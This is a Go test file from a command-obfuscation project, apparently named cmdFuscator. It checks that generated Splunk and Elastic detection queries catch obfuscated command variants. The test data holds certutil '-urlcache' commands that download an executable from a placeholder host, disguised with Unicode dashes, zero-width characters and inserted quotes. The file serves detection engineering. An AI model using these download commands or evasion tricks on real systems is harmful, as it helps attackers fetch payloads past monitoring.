@@ -0,0 +1,214 @@
+package export
+
+import (
+	"context"
+	"encoding/json"
+	"io/fs"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"cmdFuscator/data"
+	"cmdFuscator/engine"
+	"cmdFuscator/loader"
+	"cmdFuscator/models"
+)
+
+var curl = &models.ProfileFile{Name: "curl", Profiles: []models.Profile{{Platform: "linux"}}}
+
+func TestParseQueryFormat(t *testing.T) {
+	for in, want := range map[string]QueryFormat{"spl": QuerySPL, "Splunk": QuerySPL, "elastic": QueryElastic, "es": QueryElastic, " dsl ": QueryElastic} {
+		if got, err := ParseQueryFormat(in); err != nil || got != want {
+			t.Errorf("ParseQueryFormat(%q) = %v, %v; want %v", in, got, err, want)
+		}
+	}
+	if _, err := ParseQueryFormat("kql"); err == nil {
+		t.Error("ParseQueryFormat(kql): want an error")
+	}
+}
+
+func TestFindInvariants(t *testing.T) {
+	variants := []Variant{
+		{Profile: certutil, Command: "certutil -urlcache -f http://x/a.exe out.exe"},
+		{Profile: certutil, Command: "CeRtUtIl \u2013urlcache -F http://x/a.exe out.exe"},
+		{Profile: certutil, Command: "certutil -url\u200dcache -f ht\"tp\"://x/a.exe OUT.exe"},
+	}
+	inv := FindInvariants(variants)
+	if want := []string{"certutil.exe"}; !slices.Equal(inv.Executables, want) {
+		t.Errorf("Executables = %q, want %q", inv.Executables, want)
+	}
+	if want := []string{"out.exe"}; !slices.Equal(inv.Literals, want) {
+		t.Errorf("Literals = %q, want %q", inv.Literals, want)
+	}
+	if want := []string{"-urlcache", "http://x/a.exe"}; !slices.Equal(inv.Words, want) {
+		t.Errorf("Words = %q, want %q", inv.Words, want)
+	}
+
+	inv = FindInvariants([]Variant{{Profile: curl, Command: "curl -o out http://x"}, {Profile: curl, Command: "curl -O http://y"}})
+	if len(inv.Literals)+len(inv.Words) != 0 || !slices.Equal(inv.Executables, []string{"curl"}) {
+		t.Errorf("FindInvariants of unrelated commands = %+v, want only the executable", inv)
+	}
+}
+
+func TestDetectionQuery(t *testing.T) {
+	variants := []Variant{
+		{Profile: certutil, Command: `certutil -urlcache -f C:\Temp\a.exe out.exe`},
+		{Profile: certutil, Command: "certutil \uff0durlcache -f C:\\\\Temp\\a.exe out.exe"},
+	}
+	wantSPL := `(Image IN ("*\\certutil.exe") OR OriginalFileName IN ("certutil.exe")) CommandLine="*out.exe*"` + "\n" +
+		`| regex CommandLine="(?i)[\\-/` + "\u2010\u2011\u2012\u2013\u2014\u2015\u2212\ufe58\ufe63\uff0d" + `][^a-z0-9 ]{0,3}` +
+		strings.Join(strings.Split("urlcache", ""), "[^a-z0-9 ]{0,3}") + `"` + "\n" +
+		`| regex CommandLine="(?i)` + strings.Join([]string{"c", ":", `[\\\\/]+`, "t", "e", "m", "p", `[\\\\/]+`, "a", `\\.`, "e", "x", "e"}, "[^a-z0-9 ]{0,3}") + `"` + "\n"
+	got, err := DetectionQuery(QuerySPL, variants)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != wantSPL {
+		t.Errorf("SPL query =\n%s\nwant\n%s", got, wantSPL)
+	}
+
+	got, err = DetectionQuery(QueryElastic, append(variants, Variant{Profile: curl, Command: "curl -url^cache out.exe"}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var body struct {
+		Query struct {
+			Bool struct {
+				Filter []map[string]map[string]json.RawMessage
+			}
+		}
+	}
+	if err := json.Unmarshal([]byte(got), &body); err != nil {
+		t.Fatalf("Elastic query is not JSON: %v\n%s", err, got)
+	}
+	var kinds []string
+	for _, f := range body.Query.Bool.Filter {
+		for kind, field := range f {
+			kinds = append(kinds, kind)
+			if kind != "bool" && field["process.command_line"] == nil {
+				t.Errorf("%s filter %v: want it on process.command_line", kind, field)
+			}
+		}
+	}
+	if want := []string{"bool", "wildcard", "regexp"}; !slices.Equal(kinds, want) {
+		t.Errorf("Elastic filters %q, want %q\n%s", kinds, want, got)
+	}
+	for _, want := range []string{`"process.name"`, `"process.pe.original_file_name"`, `"curl"`, `"*out.exe*"`, `"case_insensitive": true`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("Elastic query lacks %s:\n%s", want, got)
+		}
+	}
+
+	if _, err := DetectionQuery(QuerySPL, []Variant{{Profile: curl, Command: "curl"}}); err == nil {
+		t.Error("DetectionQuery of a bare executable: want an error")
+	}
+}
+
+func TestSPLQuery_LiteralWithWildcard(t *testing.T) {
+	query := splQuery(Invariants{Executables: []string{"curl"}, Literals: []string{"out.txt", "*.txt"}})
+	if want := `Image IN ("*/curl") CommandLine="*out.txt*"` + "\n" + `| regex CommandLine="(?i)\\*\\.txt"` + "\n"; query != want {
+		t.Errorf("query =\n%s\nwant\n%s", query, want)
+	}
+	match := splMatcher(t, query)
+	if !match("curl -o out.txt *.TXT") || match("curl -o out.txt a.txt") {
+		t.Errorf("%q does not match * literally", query)
+	}
+}
+
+// TestDetectionQueryMatchesEngine checks that the SPL query built from
+// variants of each bundled example command matches every one of them, and
+// the original.
+func TestDetectionQueryMatchesEngine(t *testing.T) {
+	sub, err := fs.Sub(data.ModelFS, "models")
+	if err != nil {
+		t.Fatal(err)
+	}
+	profiles, err := loader.LoadFS(sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng := engine.New(engine.WithRenderTarget(engine.TargetNone))
+	for _, pf := range profiles {
+		var words []string
+		for _, el := range pf.Profiles[0].Parameters.Command {
+			words = append(words, el.StringValue())
+		}
+		input := strings.Join(words, " ")
+
+		items := make([]engine.BatchItem, 20)
+		for i := range items {
+			items[i] = engine.BatchItem{Command: input, Profile: pf, Enabled: engine.DefaultEnabled(pf), Seed: int64(i + 1)}
+		}
+		var variants []Variant
+		for _, r := range eng.ObfuscateBatch(context.Background(), items) {
+			if r.Err != nil {
+				t.Fatalf("%s: %v", pf.Name, r.Err)
+			}
+			variants = append(variants, Variant{Profile: pf, Command: r.Result.Output})
+		}
+		query, err := DetectionQuery(QuerySPL, variants)
+		if err != nil {
+			// Only commands whose words are all too short, such as bash -c id,
+			// may have no invariant.
+			if inv := FindInvariants([]Variant{{Profile: pf, Command: input}}); len(inv.Literals)+len(inv.Words) > 0 {
+				t.Errorf("%s: %v", pf.Name, err)
+			}
+			continue
+		}
+		match := splMatcher(t, query)
+		for _, cmd := range append([]string{input}, commands(variants)...) {
+			if !match(cmd) {
+				t.Errorf("%s: query\n%s\ndoes not match %q", pf.Name, query, cmd)
+			}
+		}
+	}
+}
+
+// splMatcher returns a func reporting whether a command line passes the
+// CommandLine terms and regex commands of query, which Go's regexp syntax
+// can read.
+func splMatcher(t *testing.T, query string) func(string) bool {
+	t.Helper()
+	var literals []string
+	var res []*regexp.Regexp
+	for _, line := range strings.Split(strings.TrimSpace(query), "\n") {
+		if pattern, ok := strings.CutPrefix(line, "| regex CommandLine="); ok {
+			s, err := strconv.Unquote(pattern)
+			if err != nil {
+				t.Fatalf("%s: %v", line, err)
+			}
+			res = append(res, regexp.MustCompile(s))
+			continue
+		}
+		for _, term := range regexp.MustCompile(`CommandLine=("\*(?:[^"\\]|\\.)*\*")`).FindAllStringSubmatch(line, -1) {
+			s, err := strconv.Unquote(term[1])
+			if err != nil {
+				t.Fatalf("%s: %v", term[1], err)
+			}
+			literals = append(literals, strings.Trim(s, "*"))
+		}
+	}
+	return func(cmd string) bool {
+		for _, lit := range literals {
+			if !strings.Contains(strings.ToLower(cmd), lit) {
+				return false
+			}
+		}
+		for _, re := range res {
+			if !re.MatchString(cmd) {
+				return false
+			}
+		}
+		return true
+	}
+}
+
+func commands(variants []Variant) []string {
+	var out []string
+	for _, v := range variants {
+		out = append(out, v.Command)
+	}
+	return out
+}